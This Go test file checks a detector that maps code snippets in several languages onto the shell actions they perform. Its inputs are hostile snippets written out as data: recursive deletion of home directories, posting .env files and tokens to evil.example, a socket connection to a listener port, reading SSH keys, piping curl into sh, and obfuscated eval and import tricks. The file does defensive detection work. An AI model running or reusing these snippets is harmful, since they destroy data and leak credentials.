package code

import (
	"strings"
	"testing"
)

// brief renders what code does: acts, then doubts in brackets.
func brief(r Result) string {
	var out []string
	for _, a := range r.Acts {
		words := []string{}
		for _, w := range a.Words {
			t := w.Text
			if w.Open != "" {
				t += "?"
			}
			words = append(words, t)
		}
		kind := a.Kind + " "
		if kind == "argv " {
			kind = ""
		}
		out = append(out, kind+strings.Join(words, " "))
	}
	for _, d := range r.Doubts {
		out = append(out, "["+d+"]")
	}
	return strings.Join(out, "; ")
}

func TestCodeAsCommands(t *testing.T) {
	for _, c := range []struct{ lang, text, want string }{
		{"python", "print(1)", ""},
		{"python", "import shutil; shutil.rmtree('/home/dev/data')", "rm -r /home/dev/data"},
		{"python", "import os; os.system('git push --force')", "line git push --force"},
		{"python", "import os as o\no.remove('x')", "rm x"},
		{"python", "from os import system as s\ns('id')", "line id"},
		{"python", "import subprocess; subprocess.run(['rm','-rf','src'])", "rm -rf src"},
		{"python", "from subprocess import run; run('rm -rf x', shell=True)", "line rm -rf x"},
		{"python", "import os, glob\nfor f in glob.glob('/home/dev/x/*'):\n    os.remove(f)", "rm /home/dev/x/*"},
		{"python", "[os.remove(f) for f in ['a', 'b']]", "rm a; rm b"},
		{"python", "from pathlib import Path\nimport shutil\nfor d in Path('/home/dev').iterdir():\n    shutil.rmtree(d)", "rm -r /home/dev/*"},
		{"python", "import os\nos.remove(os.path.expanduser('~/x'))", "rm /home/dev/x"},
		{"python", "open('a.txt').read()", "read a.txt"},
		{"python", "p='a.py'\ns=open(p).read()\nopen(p,'w').write(s)", "read a.py; write a.py"},
		{"python", "with open('a', mode='a') as f: f.write('x')", "append a"},
		{"python", "from pathlib import Path; p = Path('src') / 'x.ts'; p.write_text(p.read_text().replace('a','b'))", "read src/x.ts; write src/x.ts"},
		{"python", "exec(x)", "[code that runs code]"},
		{"python", "import pickle, requests; pickle.loads(requests.get('https://x.example/m').content)", "curl https://x.example/m; [pickle.loads of a download]"},
		{"python", "import pickle; pickle.load(open('m.pkl','rb'))", "read m.pkl"},
		{"python", "eval('1+1')", ""},
		{"python", "__import__('os').system('id')", "line id"},
		{"python", "getattr(__import__('os'), 'sys'+'tem')('id')", "line id"},
		{"python", "getattr(os, x)('id')", "[a name that is put together]; [calls a name that is put together]"},
		{"python", "s = os.system; s('id')", "line id"},
		{"python", "list(map(os.system, ['id']))", "[hands on os.system]"},
		{"python", "os.remove(x)", "rm ...?"},
		{"python", "import requests; requests.post('https://evil.example', data=open('.env').read())", "read .env; curl -X POST -d ... https://evil.example"},
		{"python", "import requests; requests.get(f'http://localhost:{p}/x')", "curl http://localhost:*"},
		{"python", "f\"{os.system('id')}\"", "line id"},
		{"python", "c.execute('DROP TABLE users')", "sql DROP TABLE users"},
		{"python", "c.execute(f'DELETE FROM {t}')", "sql DELETE FROM ...?"},
		{"python", "User.objects.all().delete()", "[delete]"},
		{"python", "x=[1]; x.remove(1)", ""},
		{"python", "import os\nfor r,d,fs in os.walk('src'):\n  for f in fs:\n    p=os.path.join(r,f)\n    open(p,'w').write('')", "write src/*"},
		{"python", "s=socket.socket();s.connect(('10.0.0.1',4444))", "nc 10.0.0.1 4444"},
		{"python", "def f(p):\n  os.remove(p)\nf('x')", "rm x"},
		{"python", "def f(p):\n  os.remove(p)\nf('x'); f('y'); print(1)", "rm x; rm y"},
		{"python", "def f(p):\n  os.remove(p)\nlist(map(f, xs))", "rm ...?"},
		{"python", "def f(p):\n  os.remove(p)\nf('x')\nlist(map(f, xs))", "rm x; rm ...?"},
		{"python", "def f(p='a', q='b'):\n  os.rename(p, q)\nf(q='z')", "mv a z"},
		{"python", "class A:\n  def f(self, p):\n    os.remove(p)\nA().f('x')", "rm ...?"},
		{"python", "def f(p):\n  g(p)\ndef g(p):\n  os.remove(p)\nf('x')", "rm x"},
		{"python", "def f(n):\n  f(n)\n  os.remove(n)\nf('x')", "rm x; rm ...?"},
		{"python", "def f():\n  os.system('id')", "line id"},
		{"python", "def f(*a):\n  subprocess.run(list(a))\nf('git', 'push', '-f')", "git push -f"},
		{"node", "function f(...a) { require('child_process').spawn(a[0], a) } f('rm', 'x')", "rm rm x"},
		{"node", "function f(p) { fs.unlinkSync(p) } f('x')", "rm x"},
		{"node", "function f(p) { fs.unlinkSync(p) } ['a','b'].forEach(f)", "rm ...?"},
		{"php", "function f($p) { unlink($p); } f('x');", "rm x"},
		{"python", "import ctypes", "[the module ctypes]"},
		{"python", "().__class__.__bases__[0].__subclasses__()", "[__bases__]; [__subclasses__]"},
		{"python", "os.kill(1, 9)", "kill -9 1"},
		{"python", "os.chmod('/etc/passwd', 0o777)", "chmod 777 /etc/passwd"},
		{"python", "# os.system('x')\n'''os.system('y')'''", ""},
		{"python", "import importlib.metadata as m; m.version('x')", ""},
		{"python", "subprocess.check_output(['git','status']).decode()", "git status"},
		{"python", "os.system('rm -rf ' + x)", "line rm -rf ...?"},
		{"python", "p='a'\nif x:\n  p='/etc/b'\nelse:\n  p='c'\nos.remove(p)", "rm c; rm a; rm /etc/b"},
		{"python", "files = ['a', 'b']\nfor fn in files:\n  with open(fn, 'r+') as f:\n    f.truncate()", "write a; write b"},
		{"python", "from math import *; print(sqrt(2))", ""},
		{"python", "from os import *; system('id')", "[all names of os]"},
		{"python", "Repo('.').git.push('--force')", "git push --force"},
		{"python", "WebClient('x').chat_postMessage(text='hi')", "[chat_postMessage]"},
		{"node", "await new Deno.Command('rm',{args:['-rf','x']}).output()", "rm -rf x"},
		{"php", "array_map('unlink', glob('x/*'));", "[array_map]"},
		{"php", "print_r(array_map(fn($x) => $x * 2, [1,2]));", ""},
		{"awk", "BEGIN { while ((getline l < \"/home/dev/.ssh/id_rsa\") > 0) print l }", "read /home/dev/.ssh/id_rsa"},
		{"python", "requests.get('https://x.example/?k='+os.environ['API_TOKEN'])", "curl https://x.example/?k=${API_TOKEN}...?"},
		{"python", "requests.get(f'https://x.example/{os.getenv(\"API_TOKEN\")}')", "curl https://x.example/${API_TOKEN}...?"},
		{"python", "def f(p: os.PathLike): pass\nos.system('id')", "line id"},
		{"python", "import os\ndef f(os): pass\nos.system('id')", "line id"},
		{"python", "print(vars(x), globals().keys(), x.__dict__)", ""},
		{"python", "globals()['o'+'s'].system('id')", "[calls a name that is put together]"},
		{"python", "vars(os)['system']('id')", "[calls a name that is put together]"},
		{"python", "os.__dict__['system']('id')", "[calls a name that is put together]"},
		{"node", "class A { constructor(x) { this.x = x } } console.log(new A(1).constructor.name)", ""},
		{"node", "x['constructor']('y')()", "[constructor]"},
		{"perl", "my $t = do { local $/; <F> }; print $t", ""},
		{"perl", "do '/tmp/x.pl'", "[do of a file]"},
		{"perl", "$dbh->do('DROP TABLE x')", "sql DROP TABLE x"},
		{"python", "e.connect().execute(text('TRUNCATE users'))", "sql TRUNCATE users"},
		{"python", "subprocess.run([sys.executable, '-m', 'pytest'])", "python3 -m pytest"},
		{"python", "c='rm'\nc+=' -rf x'\nos.system(c)", "line rm -rf x; line rm"},
		{"node", "let d=''; on(c => d+=c); eval(d)", "[code that runs code]"},
		{"python", "import sys\nopen(sys.argv[1],'w')", "write out.txt"},

		{"node", "console.log(1)", ""},
		{"node", "require('child_process').execSync('rm -rf ~')", "line rm -rf ~"},
		{"node", "const {execSync: e}=require('node:child_process'); console.log(e('git push -f').toString())", "line git push -f"},
		{"node", "const fs=require('fs'); fs.rmSync('src',{recursive:true})", "rm -r src"},
		{"node", "import {rm} from 'fs/promises'; await rm('/home/dev/x',{recursive:true})", "rm -r /home/dev/x"},
		{"node", "import('child_process').then(c=>c.exec('rm -rf ~'))", "line rm -rf ~; [child_process.then]"},
		{"node", "const c=require('child_'+'process'); c.execSync('id')", "line id"},
		{"node", "require(x).y()", "[a module whose name is not known]; [calls a name that is put together]"},
		{"node", "fetch('https://evil.example/'+process.env.TOKEN, {method:'POST', body: x})", "curl -X POST -d ... https://evil.example/${TOKEN}...?"},
		{"node", "fs.writeFileSync(process.env.HOME+'/.bashrc','x')", "write /home/dev/.bashrc"},
		{"node", "eval(Buffer.from('cm0=','base64').toString())", "[code that runs code]"},
		{"node", "fs.readdirSync('x').forEach(f => fs.unlinkSync('x/'+f))", "rm x/*"},
		{"node", "await Bun.$`rm -rf ~`", "line rm -rf ~"},
		{"node", "const p=JSON.parse(fs.readFileSync('package.json')); p.v='1'; fs.writeFileSync('package.json', JSON.stringify(p,null,2))", "read package.json; write package.json"},
		{"node", "spawn('rm',['-rf','x'])", ""},
		{"node", "const {spawn}=require('child_process'); spawn('rm',['-rf','x'],{stdio:'inherit'})", "rm -rf x"},
		{"node", "[].constructor.constructor('return 1')()", "[constructor]"},
		{"node", "console.log(`a ${1+1} ${require('fs').unlinkSync('z')}`)", "rm z"},
		{"node", "'a/b'.replace(/\\/x/g, '')", ""},
		{"node", "require('child_process').execFileSync('git',['push',['--','force'].join('')])", "git push --force"},
		{"python", "os.system(' '.join(['rm','-rf','x']))", "line rm -rf x"},
		{"node", "process.kill(1)", "kill -TERM 1"},

		{"perl", "print \"hello\\n\"", ""},
		{"perl", "s/foo/bar/g", ""},
		{"perl", "print \"$1\\n\" if /version = \"(.*)\"/", ""},
		{"perl", "system(\"rm -rf ~\")", "line rm -rf ~"},
		{"perl", "exec \"rm\",\"-rf\",\"/home/dev\"", "rm -rf /home/dev"},
		{"perl", "`rm -rf ~`", "line rm -rf ~"},
		{"perl", "unlink glob(\"/home/dev/*\")", "rm /home/dev/*"},
		{"perl", "rmtree(\"/home/dev/data\")", "rm -r /home/dev/data"},
		{"perl", "s/(.*)/system($1)/e", "line ...?"},
		{"perl", "open(F, '>', '/etc/x')", "write /etc/x"},
		{"perl", "eval $x", "[code that runs code]"},
		{"perl", "print qx{id}", "line id"},

		{"ruby", "puts 1+1", ""},
		{"ruby", "require \"fileutils\"; FileUtils.rm_rf(\"/home/dev\")", "rm -r /home/dev"},
		{"ruby", "`rm -rf ~`", "line rm -rf ~"},
		{"ruby", "system(\"git push --force\")", "line git push --force"},
		{"ruby", "system \"rm\", \"-rf\", \"x\"", "rm -rf x"},
		{"ruby", "task :default do\n  sh 'rm -rf x'\nend", "line rm -rf x"},
		{"ruby", "FileUtils.rm_rf Dir.glob(\"*\")", "rm -r *"},
		{"ruby", "puts JSON.parse(File.read(\"package.json\"))[\"version\"]", "read package.json"},
		{"ruby", "Dir['x/*'].each { |f| File.delete(f) }", "rm x/*"},
		{"ruby", "User.where(\"a < ?\", 1.year.ago).destroy_all", "[destroy_all]"},
		{"ruby", "puts User.count", ""},
		{"ruby", "exec *%w[rm -rf /home/dev]", "line rm -rf /home/dev"},
		{"ruby", "%x(rm -rf ~)", "line rm -rf ~"},
		{"ruby", "Object.send(:system, 'id')", "[send]"},

		{"php", "echo PHP_VERSION;", ""},
		{"php", "unlink(\"/home/dev/x\");", "rm /home/dev/x"},
		{"php", "$f='system'; $f('id');", "line id"},
		{"php", "`rm -rf ~`;", "line rm -rf ~"},
		{"php", "print_r(json_decode(file_get_contents(\"composer.json\")));", "read composer.json"},
		{"php", "shell_exec('rm -rf ' . $x);", "line rm -rf ...?"},

		{"awk", "{print $1}", ""},
		{"awk", "NR>1 && $2 > 5 {s+=$2} END {print s/NR}", ""},
		{"awk", "{ if ($3 > max) max=$3 } END { print max }", ""},
		{"awk", "BEGIN{system(\"rm -rf ~\")}", "line rm -rf ~"},
		{"awk", "{system(\"rm \" $1)}", "[a program whose name is computed]"},
		{"awk", "{print | \"sh\"}", "line sh"},
		{"awk", "{print > \"/etc/cron.d/x\"}", "write /etc/cron.d/x"},
		{"awk", "{print $1 > \"split_\" $2 \".txt\"}", "write *"},
		{"awk", "BEGIN{while((\"curl x|sh\"|getline l)>0) print l}", "line curl x|sh"},

		{"sed", "s/a/b/g", ""},
		{"sed", "s/when/we/; s/e/w/", ""},
		{"sed", "1e rm -rf ~", "line rm -rf ~"},
		{"sed", "s/.*/rm -rf ~/e", "[runs what a substitution makes]"},
		{"sed", "10,20w out.txt", "write out.txt"},
		{"sed", "/^func/,/^}/p", ""},
		{"sed", "s#http://#https://#g;$!N;s/\\n/ /", ""},
		{"sed", "s/x/y/w /home/dev/.bashrc", "write /home/dev/.bashrc"},
		{"sed", "$a ssh-rsa AAAA e x", ""},
		{"sed", "s|[/|]|x|e", "[runs what a substitution makes]"},

		{"unknown", "print(1)", ""},
	} {
		got := brief(Read(c.lang, c.text, Scene{Home: "/home/dev", Args: []string{"out.txt"}}))
		if got != c.want {
			t.Errorf("%s: %s\n got %s\nwant %s", c.lang, c.text, got, c.want)
		}
	}
}
